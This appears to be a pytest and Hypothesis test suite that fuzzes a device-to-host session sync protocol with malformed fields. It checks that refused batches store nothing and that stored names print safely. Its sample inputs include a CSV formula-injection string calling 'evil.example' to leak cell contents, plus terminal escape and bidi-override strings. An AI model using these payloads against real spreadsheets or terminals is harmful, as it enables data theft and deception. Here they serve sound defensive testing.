"""`facepace sync` against a hostile or broken device (issue 10): a scripted device on a pty.

Every payload is well framed, so it reaches the host's checks. Whatever it holds, the
host stores nothing it has not checked, never acknowledges or moves its cursor past a
refused batch, stops with "device ID: ...: field NAME: what is wrong" and no traceback,
and what it did store prints safely (`history` table and CSV) and draws (`report`).
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import re
import sqlite3
import tempfile
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from device.cli import log as cli_log
from device.cli import main as cli
from device.log import history
from device.log import report
from device.log import session_columns
from device.base.errors import FacepaceError
from device.log.logdb import SessionRecord, ZoneProgress
from device.log.sessionschema import finished_session, record_values
from device.log.sessionlog import SessionLog
from companion import sync_client as host
from device.sync import protocol as p
from companion.hostdb import HostDb
from device.sync.server import SyncServer
from tests.support.sync_testing import ZONES, PtyLink, ScriptedDevice, record_sessions

DEVICE, LOG = "dev-1", "log-1"
FIELDS = list(p.SESSION_FIELDS)
EXAMPLES = int(os.environ.get("FACEPACE_HOSTILE_EXAMPLES", "60"))


def honest_session(seq: int, *, device_id: str = DEVICE) -> list:
    start = 1_717_000_000.0 + seq * 86_400
    record = SessionRecord(
        id=f"session-{seq}", device_id=device_id, routine_name="daily", routine_hash="sha256:ab",
        intensity=3, wall_start=start, wall_trusted=True, boot_id="boot-1", mono_start=100.0,
        active_seconds=195.0, outcome="completed", wall_end=start + 600, wall_checkpoint=start + 600,
        mono_end=700.0, seq=seq, zones=tuple(ZoneProgress(z, s, s, False) for z, s in ZONES[:3]))
    return p.session_values(record, "clock")


def welcome(last_seq: int, **changes) -> dict:
    body = {"protocol": p.PROTOCOL_VERSION, "device_id": DEVICE, "log_id": LOG, "firmware": "0.1.0",
            "boot_id": "boot-1", "device_time": 1.8e9, "clock_trusted": True, "acked_seq": 0,
            "last_seq": last_seq, **changes}
    return {key: value for key, value in body.items() if value is not DROP}


def batch(sessions: list, *, after: int = 0, **changes) -> dict:
    body = {"after": after, "last_seq": sessions[-1][1] if sessions else after, "remaining": 0,
            "fields": FIELDS, "sessions": sessions, **changes}
    return {key: value for key, value in body.items() if value is not DROP}


DROP = object()   # a field left out


def changed(session: list, name: str, value) -> list:
    session = list(session)
    session[FIELDS.index(name)] = value
    return session


def with_zone_value(session: list, index: int, value) -> list:
    zones = [list(zone) for zone in session[FIELDS.index("zones")]]
    zones[0][index] = value
    return changed(session, "zones", zones)


def run_cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = cli.main(list(argv))
    return code, out.getvalue(), err.getvalue()


def sync_with(device_args: dict, db: Path) -> tuple[int, str, str, ScriptedDevice]:
    with PtyLink() as link, ScriptedDevice(link.device_port, **device_args) as device:
        code, out, err = run_cli("sync", "--port", link.host_port, "--db", str(db), "--timeout", "5")
    return code, out, err, device


def cursors(db: Path) -> list[tuple]:
    with sqlite3.connect(db) as raw:
        return raw.execute("SELECT device_id, log_id, last_seq FROM cursors").fetchall()


S1 = honest_session(1)
REFUSED = {
    "WELCOME without device_id": (
        welcome(1, device_id=DROP), [],
        r"the device on \S+: WELCOME: field device_id: missing"),
    "WELCOME with an escape sequence for an id": (
        welcome(1, device_id="\x1b[2J"), [],
        r"WELCOME: field device_id: must not hold control characters, got '\\x1b\[2J'"),
    "remaining -1": (welcome(1), [batch([S1], remaining=-1)],
                     r"BATCH: field remaining: must be a whole number 0\.\.\d+, got -1"),
    "remaining missing": (welcome(1), [batch([S1], remaining=DROP)], r"BATCH: field remaining: missing"),
    "last_seq missing": (welcome(1), [batch([S1], last_seq=DROP)], r"BATCH: field last_seq: missing"),
    "last_seq 0": (welcome(1), [batch([S1], last_seq=0)],
                   r"BATCH: field last_seq: must be the last session's seq, 1, got 0"),
    "last_seq 2**62": (welcome(2**62), [batch([S1], last_seq=2**62)],
                       r"BATCH: field last_seq: must be the last session's seq, 1, got 4611686018427387904"),
    "other fields": (welcome(1), [batch([S1], fields=FIELDS[::-1])], r"BATCH: field fields: must be"),
    "the same id twice": (welcome(2), [batch([S1, changed(S1, "seq", 2)])],
                          r"BATCH: session session-1: field id: sent twice in one batch"),
    "seqs going down": (welcome(2), [batch([honest_session(2), S1])],
                        r"session session-1: field seq: must be above 2"),
    "NaN active_seconds": (welcome(1), [batch([changed(S1, "active_seconds", math.nan)])],
                           r"session session-1: field active_seconds: must be a finite number, got nan"),
    "outcome an object": (welcome(1), [batch([changed(S1, "outcome", {"a": 1})])],
                          r"session session-1: field outcome: must be text, got \{'a': 1\}"),
    "outcome unknown": (welcome(1), [batch([changed(S1, "outcome", "won")])],
                        r"field outcome: must be one of 'completed', 'ended_early', 'interrupted', got 'won'"),
    "a zone's seconds a list": (welcome(1), [batch([with_zone_value(S1, 1, [60])])],
                                r"session session-1: field zones\[0\]\.planned_seconds: must be a number"),
    "a zone's seconds 'lots'": (welcome(1), [batch([with_zone_value(S1, 2, "lots")])],
                                r"field zones\[0\]\.done_seconds: must be a number, got 'lots'"),
    "a zone of three values": (welcome(1), [batch([changed(S1, "zones", [["neck", 60.0, 60.0]])])],
                               r"field zones\[0\]: must be a list of 4 values"),
    "seq 2**70": (welcome(2**62), [batch([changed(S1, "seq", 2**70)], last_seq=1)],
                  r"session session-1: field seq: must be a whole number 1\.\.\d+, got 1180591620717411303424"),
    "intensity 10**30": (welcome(1), [batch([changed(S1, "intensity", 10**30)])],
                         r"field intensity: must be a whole number 1\.\.5, got 1000000000000000000000000000000"),
    "intensity true": (welcome(1), [batch([changed(S1, "intensity", True)])],
                       r"field intensity: must be a whole number, got True"),
    "wall_start 1e308": (welcome(1), [batch([changed(S1, "wall_start", 1e308)])],
                         r"field wall_start: must be a number 0\.0\.\.4102444800\.0, got 1e\+308"),
    "wall_end 'yesterday'": (welcome(1), [batch([changed(S1, "wall_end", "yesterday")])],
                             r"field wall_end: must be a number, got 'yesterday'"),
    "a session of another device": (welcome(1), [batch([changed(S1, "device_id", "dev-2")])],
                                    r"field device_id: must be this device's, 'dev-1', got 'dev-2'"),
    "a session that is not a list": (welcome(1), [dict(batch([S1]), sessions=[{"id": "x"}])],
                                     r"BATCH: session #1 of the batch: field fields: a session must be a list"),
    "a routine name of 300 characters": (welcome(1), [batch([changed(S1, "routine_name", "r" * 300)])],
                                         r"field routine_name: must be text of 1\.\.255 characters, got 300"),
}
REFUSED = {name: (dict(welcome=body, batches=batches), message)
           for name, (body, batches, message) in REFUSED.items()}
REFUSED["CLOCK_SET with words for numbers"] = (
    dict(welcome=welcome(1), clock_set={"fixed": "some", "estimated": 0}),
    r"CLOCK_SET: field fixed: must be a whole number, got 'some'")


@pytest.mark.parametrize("name", REFUSED)
def test_a_wrong_field_is_refused_with_the_device_and_field_named_and_nothing_stored(name, tmp_path):
    answers, message = REFUSED[name]
    code, out, err, device = sync_with(answers, tmp_path / "host.db")
    assert code == 1 and out == ""
    assert err.startswith("facepace: ") and err.count("\n") == 1, err   # one line, no traceback
    assert re.search(message, err), err
    if not name.startswith(("WELCOME", "CLOCK_SET")):
        assert err.startswith(f"facepace: device {DEVICE}: BATCH") and "nothing of it stored" in err
    assert device.acks == []
    with HostDb.open(tmp_path / "host.db") as db:
        assert db.sessions() == []
    assert cursors(tmp_path / "host.db") == []


def test_a_refused_batch_keeps_the_batches_before_it_and_their_cursor(tmp_path):
    good = batch([honest_session(1), honest_session(2)])
    bad = batch([changed(honest_session(3), "wall_start", math.inf)], after=2)
    code, _, err, device = sync_with(dict(welcome=welcome(3), batches=[good, bad]), tmp_path / "host.db")
    assert code == 1 and "session session-3: field wall_start: must be a finite number, got inf" in err
    assert device.acks == [2]
    with HostDb.open(tmp_path / "host.db") as db:
        assert sorted(record.seq for record, _ in db.sessions()) == [1, 2]
    assert cursors(tmp_path / "host.db") == [(DEVICE, LOG, 2)]


def test_a_reply_that_comes_while_another_is_awaited_is_kept_for_its_request():
    """The host keeps the next PULL in flight while it acknowledges what it stored; the device
    answers in order, so the batch comes while the host waits for ACKED. It is kept, not
    dropped and asked for again."""
    good = batch([honest_session(1), honest_session(2)])
    with PtyLink() as link, ScriptedDevice(link.device_port, welcome=welcome(2), batches=[good]) as device:
        port = host.open_device(link.host_port)
        try:
            talk = host.Link(port, timeout=60, resend_after=30)   # a re-send would take 30 s
            pull = talk.send(p.PULL, after=0, limit=5)
            assert talk.request(p.ACK, p.ACKED, seq=0)["seq"] == 0
            assert [session[0] for session in talk.wait(pull, p.BATCH)["sessions"]] == ["session-1", "session-2"]
        finally:
            port.close()
    assert talk.resends == 0 and device.pulls == 1


def test_sessions_past_what_welcome_announced_are_left_for_the_next_sync(tmp_path):
    """They finished during the sync: honest, but past the end this sync agreed on."""
    sessions = [honest_session(seq) for seq in (1, 2, 3)]
    code, out, err, device = sync_with(dict(welcome=welcome(2), batches=[batch(sessions)]),
                                       tmp_path / "host.db")
    assert code == 0, err
    assert out.startswith("2 new, 0 already had")
    assert device.acks == [2] and device.pulls == 1
    assert cursors(tmp_path / "host.db") == [(DEVICE, LOG, 2)]


def test_a_device_lying_about_its_id_cannot_hide_the_real_device_s_sessions(tmp_path):
    """Issue 10: a cursor pushed to 2**62 made the real device's next sessions sync as "0 new"."""
    with SessionLog.open(tmp_path / "device" / "sessions.db", clock_synced=lambda: True) as log:
        record_sessions(log, 6)
        device_id, log_id = log.device_id, log.log_id
    liar = dict(welcome=welcome(2**62, device_id=device_id, log_id=log_id),
                batches=[batch([changed(honest_session(1, device_id=device_id), "seq", 2**62)])])
    code, _, err, _ = sync_with(liar, tmp_path / "host.db")
    assert code == 0, err   # every field is allowed: only what comes next can show it was a lie
    with SessionLog.open(tmp_path / "device" / "sessions.db", clock_synced=lambda: True) as log, \
            PtyLink() as link, SyncServer(link.device_port, log, reopen_delay=0.05) as server:
        assert server.serving.wait(60)
        code, out, err = run_cli("sync", "--port", link.host_port, "--db", str(tmp_path / "host.db"))
    assert code == 0, err
    assert out.startswith("6 new, 0 already had")
    assert cursors(tmp_path / "host.db") == [(device_id, log_id, 6)]


def test_a_device_s_error_message_reaches_the_terminal_harmlessly(tmp_path):
    refusal = {"code": p.E_INTERNAL, "message": "\x1b[2J\r\nall fine, nothing to see"}
    code, _, err, _ = sync_with(dict(welcome=welcome(0), refuse={p.SET_CLOCK: refusal}), tmp_path / "host.db")
    assert code == 1
    assert err == "facepace: the device refused SET_CLOCK: ?[2J??all fine, nothing to see\n"


# --- What was stored prints safely --------------------------------------------------------

NASTY_NAMES = ["\x1b[31mRED\x1b[0m\r\nfake line", '=HYPERLINK("http://evil.example/?d="&A1,"x")',
               "+cmd", "-2+3", "@SUM(1)", "\tdaily", "\u202eevil"]


def test_history_shows_names_with_control_characters_and_formulas_harmlessly(tmp_path):
    sessions = [changed(honest_session(seq + 1), "routine_name", name) for seq, name in enumerate(NASTY_NAMES)]
    code, _, err, _ = sync_with(dict(welcome=welcome(len(sessions)), batches=[batch(sessions)]),
                                tmp_path / "host.db")
    assert code == 0, err   # a routine's name is a file name: the device may really send these

    code, table, _ = run_cli("history", "--db", str(tmp_path / "host.db"))
    assert code == 0
    assert len(table.split("\n\n")[0].splitlines()) == 1 + len(NASTY_NAMES)        # no fake line
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", table), repr(table)
    assert "?[31mRED" in table

    code, text, _ = run_cli("history", "--csv", "--db", str(tmp_path / "host.db"))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted({row["routine_name"] for row in rows}) == sorted(
        "'" + name if name[0] in "=+-@\t" else name for name in NASTY_NAMES)
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert {row["mono_start"] for row in rows} == {"100.0"}     # numbers stay numbers


# --- The fuzzer -----------------------------------------------------------------------------

HOSTILE_VALUES = st.one_of(
    st.none(), st.booleans(), st.integers(-2**70, 2**70), st.integers(-3, 10),
    st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=70),
    st.sampled_from(["yesterday", "lots", "", "completed", "estimated", "neck", DEVICE, LOG,
                     *NASTY_NAMES]),
    st.lists(st.integers(0, 9), max_size=4), st.dictionaries(st.text(max_size=3), st.integers(), max_size=2))
SESSION_TARGETS = FIELDS + [f"zone.{index}" for index in range(4)] + ["duplicate", "swap", "drop"]
ENVELOPE_TARGETS = ["after", "last_seq", "remaining", "fields", "sessions"]
WELCOME_TARGETS = ["protocol", "device_id", "log_id", "firmware", "last_seq"]


@st.composite
def hostile_syncs(draw) -> dict:
    """An honest device's answers (1-3 batches), then 0-3 hostile changes to them."""
    counts = draw(st.lists(st.integers(1, 3), min_size=1, max_size=3))
    answers = _honest_answers(counts)
    batches = answers["batches"]
    for _ in range(draw(st.integers(0, 3))):
        where = draw(st.sampled_from(["session", "session", "session", "envelope", "welcome", "clock_set"]))
        value = draw(HOSTILE_VALUES)
        if where == "welcome":
            answers["welcome"][draw(st.sampled_from(WELCOME_TARGETS))] = value
        elif where == "clock_set":
            answers["clock_set"][draw(st.sampled_from(["fixed", "estimated"]))] = value
        else:
            body = draw(st.sampled_from(batches))
            if where == "envelope":
                body[draw(st.sampled_from(ENVELOPE_TARGETS))] = value
            elif isinstance(body["sessions"], list) and body["sessions"] \
                    and all(isinstance(session, list) and session for session in body["sessions"]):
                _change_session(body["sessions"], draw(st.integers(0, len(body["sessions"]) - 1)),
                                draw(st.sampled_from(SESSION_TARGETS)), value)
    answers["changed"] = json.dumps(answers) != json.dumps(_honest_answers(counts))   # True is not 1
    return answers


def _honest_answers(counts: list[int]) -> dict:
    batches, seq = [], 0
    for count in counts:
        sessions = [honest_session(seq + 1 + index) for index in range(count)]
        batches.append(batch(sessions, after=seq, remaining=sum(counts) - seq - count))
        seq += count
    return {"welcome": welcome(seq), "batches": batches, "clock_set": {"fixed": 0, "estimated": 0}}


def _change_session(sessions: list, index: int, target: str, value) -> None:
    session = sessions[index]
    if target == "duplicate" and index + 1 < len(sessions):
        sessions[index + 1][0] = session[0]          # an id twice, seqs still rising
    elif target == "duplicate":
        sessions.append(list(session))
    elif target == "swap" and index + 1 < len(sessions):
        sessions[index], sessions[index + 1] = sessions[index + 1], sessions[index]
    elif target == "drop":
        session.pop()
    elif target.startswith("zone."):
        zones = session[FIELDS.index("zones")] if len(session) == len(FIELDS) else None
        if isinstance(zones, list) and zones and isinstance(zones[0], list) and len(zones[0]) == 4:
            zones[0][int(target[5:])] = value
    elif target in FIELDS and FIELDS.index(target) < len(session):
        session[FIELDS.index(target)] = value


def _batches_up_to(batches: list[dict], acked_seq: int, announced: int) -> list[dict]:
    """The batches sent up to the one whose last session (of those up to `announced`) has the
    acknowledged seq; the host checked each of them, so they are well formed."""
    for index, body in enumerate(batches):
        seqs = [values[1] for values in body["sessions"] if values[1] <= announced]
        if seqs and seqs[-1] == acked_seq:
            return batches[:index + 1]
    raise AssertionError(f"the host acknowledged {acked_seq}, the end of no batch sent")


@settings(max_examples=EXAMPLES, derandomize=True, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(hostile_syncs())
def test_whatever_a_device_sends_the_host_stores_only_checked_sessions(answers):
    sent = json.loads(json.dumps(answers))      # what went over the wire, before the host saw it
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "host.db"
        with PtyLink() as link, ScriptedDevice(
                link.device_port, welcome=answers["welcome"], batches=answers["batches"],
                clock_set=answers["clock_set"]) as device, HostDb.open(path) as db:
            port = host.open_device(link.host_port)
            try:
                result = host.sync(port, db, timeout=5)
            except FacepaceError as error:      # anything else is a traceback for the person
                result = error
            finally:
                port.close()
            stored = db.sessions()
        event("refused" if isinstance(result, Exception) else "stored" if stored else "nothing stored")
        if not answers["changed"]:
            assert not isinstance(result, Exception), result
        if isinstance(result, Exception):
            message = str(result)
            assert re.match(r"(device \S+|the device on \S+): ", message), message
            assert re.search(r"(WELCOME|CLOCK_SET|BATCH).*: field |speaks sync protocol", message), message
            assert "\x1b" not in message and "\n" not in message

        # Stored: exactly the sessions of the batches the host acknowledged (it acknowledges
        # several at once, the last one's seq), up to WELCOME's last_seq; and the cursor at the
        # last acknowledgement, never further.
        announced = sent["welcome"]["last_seq"]
        acked = _batches_up_to(sent["batches"], device.acks[-1], announced) if device.acks else []
        expected = {values[0] for body in acked for values in body["sessions"] if values[1] <= announced}
        assert {record.id for record, _ in stored} == expected
        rows = cursors(path)
        if device.acks:
            assert rows == [(sent["welcome"]["device_id"], sent["welcome"]["log_id"], device.acks[-1])]
        else:
            assert rows == []

        # What is in the file passes the session rules, and every reader copes with it.
        records = [record for record, _ in stored]
        assert all(finished_session(record_values(record)) == record for record in records)
        table = cli_log.format_table(records)
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", table)
        text = io.StringIO()
        session_columns.write_csv(stored, text)
        assert all(not cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(text.getvalue()))
                   for cell in row)
        json.dumps([session_columns.session_fields(row) for row in stored], allow_nan=False)
        history.overview(records, 1_800_000_000.0)
        report.render(records, now_wall=1_800_000_000.0)


def test_a_database_that_cannot_store_stops_the_sync_with_its_message_and_nothing_acknowledged(tmp_path):
    """Batches are stored on a thread of their own: its failure reaches the person, the sync
    does not wait for ever, and the device hears of nothing that was not committed."""
    path = tmp_path / "host.db"
    HostDb.open(path).close()
    with sqlite3.connect(path) as full:   # as a full disk would: the third session cannot go in
        full.execute("CREATE TRIGGER full BEFORE INSERT ON sessions WHEN (SELECT COUNT(*) FROM sessions) >= 2"
                     " BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END")
    batches = [batch([honest_session(1), honest_session(2)]), batch([honest_session(3)], after=2)]
    with PtyLink() as link, ScriptedDevice(link.device_port, welcome=welcome(3), batches=batches) as device, \
            HostDb.open(path) as db:
        port = host.open_device(link.host_port)
        try:
            with pytest.raises(FacepaceError, match="cannot store the sessions.*disk is full"):
                host.sync(port, db, timeout=30)
        finally:
            port.close()
        stored = sorted(record.seq for record, _ in db.sessions())
    assert device.acks == ([2] if stored == [1, 2] else [])   # what was committed, and only that
    assert cursors(path) == ([(DEVICE, LOG, 2)] if stored else [])
